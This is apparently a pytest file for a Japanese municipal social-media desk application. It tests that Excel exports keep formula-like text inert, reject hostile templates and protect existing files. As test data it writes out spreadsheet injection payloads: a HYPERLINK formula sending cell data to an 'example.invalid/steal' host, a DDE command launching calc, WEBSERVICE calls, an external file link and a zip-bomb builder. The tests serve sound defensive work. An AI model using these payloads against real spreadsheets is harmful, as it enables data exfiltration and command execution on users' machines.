"""Workbooks carry text, not code; templates are bounded; an export never destroys a file (issue 13, items 4 and 5).

Every malicious file here is built by the test itself."""

from __future__ import annotations

import time
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.packaging.relationship import Relationship
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.workbook.external_link.external import ExternalBook, ExternalLink

from sns_desk import resources
from sns_desk.domain import policy as pol
from sns_desk.domain.errors import ValidationError
from sns_desk.domain.vocabulary import IncidentType
from sns_desk.export import workbooks as reports
from sns_desk.export.destinations import DestinationExistsError
from sns_desk.export.template_guard import TemplateError
from sns_desk.services import accounts, incidents, post_drafts
from sns_desk.services.accounts import AccountInput
from sns_desk.store.database import Database
from tests import test_reports
from tests.test_posts import in_hours
from tests.world import People

account = test_reports.account  # the fixture: an active account with its 運用ポリシー

HYPERLINK = '=HYPERLINK("http://example.invalid/steal?"&A1,"詳しくはこちら")'
DDE = "=cmd|' /C calc'!A0"


def formulas_in(path: Path) -> list[str]:
    """The formula elements of every sheet of the saved workbook (what Excel would calculate)."""
    with zipfile.ZipFile(path) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            and any(tag in archive.read(name) for tag in (b"<f>", b"<f "))
        ]


def text_cells(path: Path, text: str) -> list[str]:
    """The data types of the cells holding ``text`` exactly (``s`` for a string)."""
    wb = load_workbook(path)
    return [
        cell.data_type for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value == text
    ]


def rename(db: Database, people: People, account_id: int, name: str) -> None:
    row = accounts.get_account(db, people.kacho, account_id)
    accounts.edit_account(
        db,
        people.kacho,
        account_id,
        row.version,
        AccountInput(row.platform, name, row.department_id, "", row.url),
    )


def test_an_account_name_like_a_formula_stays_text_in_every_report(
    db: Database, people: People, account: int, tmp_path: Path
) -> None:
    rename(db, people, account, HYPERLINK)
    listing = reports.export_account_list(db, people.koho, tmp_path / "list.xlsx")
    report = reports.export_account_report(db, people.kacho, account, "変更", tmp_path / "report.xlsx")
    for path in (listing.path, report.path):
        assert formulas_in(path) == [], path
    assert text_cells(listing.path, HYPERLINK) == ["s"]
    assert "s" in text_cells(report.path, HYPERLINK)


def test_a_post_body_like_a_command_stays_text_in_the_streamed_post_record(
    db: Database, people: People, account: int, tmp_path: Path
) -> None:
    for body in (DDE, "+1+1", "-2+3", "@SUM(A1:A2)"):
        post_drafts.create_draft(
            db, people.tanto, post_drafts.PostInput(account, body, planned_at=in_hours())
        )
    start, end = datetime.now(pol.JST) - timedelta(days=1), datetime.now(pol.JST) + timedelta(days=30)
    result = reports.export_post_record(
        db, people.kacho, start, end, tmp_path / "posts.xlsx", account_id=account
    )
    assert result.rows == 4
    assert formulas_in(result.path) == []
    for body in (DDE, "+1+1", "-2+3", "@SUM(A1:A2)"):
        assert text_cells(result.path, body) == ["s"], body


def test_a_trouble_reference_like_a_formula_stays_text(
    db: Database, people: People, account: int, tmp_path: Path
) -> None:
    incident_id = incidents.open_incident(
        db,
        people.tanto,
        account,
        IncidentType.IMPERSONATION,
        HYPERLINK,
        "市章を使った偽アカウント",
        serious=False,
    )
    incidents.record_action(db, people.tanto, incident_id, "takedown", DDE)
    result = reports.export_incident_report(db, people.kacho, incident_id, tmp_path / "incident.xlsx")
    assert formulas_in(result.path) == []
    assert text_cells(result.path, HYPERLINK) == ["s"] and text_cells(result.path, DDE) == ["s"]


# --- templates an office (or an intruder) put in templates/ ---------------------------------------------------


def office_templates(db: Database) -> Path:
    assert db.location.path is not None
    folder = db.location.path.parent / "templates"
    folder.mkdir(exist_ok=True)
    return folder


@contextmanager
def within_a_second() -> Iterator[None]:
    started = time.monotonic()
    yield
    assert time.monotonic() - started < 1.0


def test_a_template_formula_is_refused_with_its_cell(
    db: Database, people: People, account: int, tmp_path: Path
) -> None:
    wb = load_workbook(resources.path("templates", "account_list.xlsx"))
    wb.active["H2"] = '=WEBSERVICE("http://example.invalid/?"&B5)'
    wb.save(office_templates(db) / "account_list.xlsx")
    with within_a_second(), pytest.raises(TemplateError, match="セル H2 に数式"):
        reports.export_account_list(db, people.koho, tmp_path / "list.xlsx")
    assert not (tmp_path / "list.xlsx").exists()
    wb = load_workbook(resources.path("templates", "account_list.xlsx"))
    wb.create_sheet("集計")["B3"] = '=WEBSERVICE("http://example.invalid/")'
    wb.save(office_templates(db) / "account_list.xlsx")
    with pytest.raises(TemplateError, match="シート「集計」のセル B3 に数式"):
        reports.export_account_list(db, people.koho, tmp_path / "list.xlsx")


def test_a_templates_external_links_do_not_reach_the_report(
    db: Database, people: People, account: int, tmp_path: Path
) -> None:
    wb = load_workbook(resources.path("templates", "account_list.xlsx"))
    link = ExternalLink(externalBook=ExternalBook(id="rId1"))
    link.file_link = Relationship(
        type="externalLinkPath", Target="file://///server/secret/other.xlsx", TargetMode="External", Id="rId1"
    )
    wb._external_links.append(link)
    wb.save(office_templates(db) / "account_list.xlsx")
    result = reports.export_account_list(db, people.koho, tmp_path / "list.xlsx")
    with zipfile.ZipFile(result.path) as archive:
        assert not [name for name in archive.namelist() if "externalLink" in name]
        assert b"secret" not in b"".join(archive.read(name) for name in archive.namelist())


@pytest.mark.parametrize("with_cell", [True, False])
def test_a_header_row_at_the_last_row_is_refused_quickly(
    db: Database, people: People, account: int, tmp_path: Path, with_cell: bool
) -> None:
    wb = load_workbook(resources.path("templates", "post_record.xlsx"))
    ws = wb.active
    wb.defined_names["table_header"] = DefinedName("table_header", attr_text=f"'{ws.title}'!$A$1048576")
    if with_cell:
        ws["A1048576"] = "番号"
    path = office_templates(db) / "post_record.xlsx"
    wb.save(path)
    assert path.stat().st_size < 10_000
    with within_a_second(), pytest.raises(TemplateError, match="行"):
        reports.export_post_record(
            db,
            people.kacho,
            datetime.now(pol.JST) - timedelta(days=1),
            datetime.now(pol.JST),
            tmp_path / "posts.xlsx",
            account_id=account,
        )


def test_a_zip_bomb_template_is_refused_from_its_directory(
    db: Database, people: People, account: int, tmp_path: Path
) -> None:
    shipped = resources.path("templates", "account_list.xlsx")
    path = office_templates(db) / "account_list.xlsx"
    rows = b"<row><c><v>1</v></c></row>" * 1_000_000  # a million cells, 26 MB once inflated
    with (
        zipfile.ZipFile(shipped) as source,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as bomb,
    ):
        for part in source.infolist():
            data = source.read(part)
            if part.filename.startswith("xl/worksheets/sheet"):
                data = data.replace(b"</sheetData>", rows + b"</sheetData>")
            bomb.writestr(part.filename, data)
    assert path.stat().st_size < 100_000
    with within_a_second(), pytest.raises(TemplateError, match="展開すると大きすぎる"):
        reports.export_account_list(db, people.koho, tmp_path / "list.xlsx")


def test_an_oversized_template_file_is_refused(
    db: Database, people: People, account: int, tmp_path: Path
) -> None:
    path = office_templates(db) / "account_list.xlsx"
    path.write_bytes(resources.path("templates", "account_list.xlsx").read_bytes() + b"\0" * 6_000_000)
    with within_a_second(), pytest.raises(TemplateError, match="ファイルが大きすぎる"):
        reports.export_account_list(db, people.koho, tmp_path / "list.xlsx")


# --- destinations -------------------------------------------------------------------------------------------------


def test_an_existing_file_is_replaced_only_when_confirmed(
    db: Database, people: People, account: int, tmp_path: Path
) -> None:
    out = tmp_path / "out" / "list.xlsx"
    out.parent.mkdir()
    out.write_bytes(b"last month's list")
    with pytest.raises(DestinationExistsError, match="同じ名前のファイルが既にあります"):
        reports.export_account_list(db, people.koho, out)
    assert out.read_bytes() == b"last month's list"
    assert [p.name for p in out.parent.iterdir()] == ["list.xlsx"], "no temporary file left behind"
    result = reports.export_account_list(db, people.koho, out, overwrite=True)
    assert load_workbook(result.path).active is not None


def test_a_file_that_appears_meanwhile_is_not_replaced(
    db: Database, people: People, account: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "out" / "list.xlsx"
    out.parent.mkdir()
    real = reports.report_queries.listed_accounts

    def someone_saves_first(*args: object, **kwargs: object) -> object:
        out.write_bytes(b"a colleague's file")
        return real(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(reports.report_queries, "listed_accounts", someone_saves_first)
    with pytest.raises(DestinationExistsError):
        reports.export_account_list(db, people.koho, out)
    assert out.read_bytes() == b"a colleague's file"
    assert [p.name for p in out.parent.iterdir()] == ["list.xlsx"]


def test_the_database_its_journal_and_backups_are_never_a_destination(
    db: Database, people: People, account: int, tmp_path: Path
) -> None:
    database = db.location.path
    assert database is not None
    before = database.read_bytes()
    for dest in (
        database,
        database.with_name(database.name + "-journal"),
        database.with_name(database.name + "-wal"),
        database.with_name(database.name + "-shm"),
    ):
        with pytest.raises(ValidationError, match="データベースのファイル"):
            reports.export_account_list(db, people.koho, dest, overwrite=True)
    disguised = tmp_path / "一覧.xlsx"
    disguised.symlink_to(database)
    with pytest.raises(ValidationError, match="データベースのファイル"):
        reports.export_account_list(db, people.koho, disguised, overwrite=True)
    backups = database.parent / "backups"
    backups.mkdir(exist_ok=True)
    with pytest.raises(ValidationError, match="バックアップのフォルダ"):
        reports.export_account_list(db, people.koho, backups / "list.xlsx", overwrite=True)
    assert database.read_bytes() == before
    assert not (backups / "list.xlsx").exists()


def test_only_xlsx_files_are_written(db: Database, people: People, account: int, tmp_path: Path) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    for name in ("list.xls", "list.csv", "list", "list.xlsx.bat"):
        with pytest.raises(ValidationError, match=r"\.xlsx"):
            reports.export_account_list(db, people.koho, folder / name)
    with pytest.raises(ValidationError, match="使えない文字"):
        reports.export_account_list(db, people.koho, folder / "list\udcff.xlsx")
    assert list(folder.iterdir()) == []
